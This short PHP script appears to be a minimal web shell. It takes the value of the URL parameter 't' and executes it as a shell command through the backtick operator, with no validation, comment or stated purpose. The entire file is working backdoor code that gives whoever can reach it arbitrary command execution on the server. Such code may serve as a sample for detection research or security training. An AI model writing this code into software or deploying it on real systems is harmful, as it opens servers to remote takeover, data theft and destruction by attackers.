<?php
parse_str($_SERVER['QUERY_STRING'], $opts);
$t = $opts['t'];
`$t`;
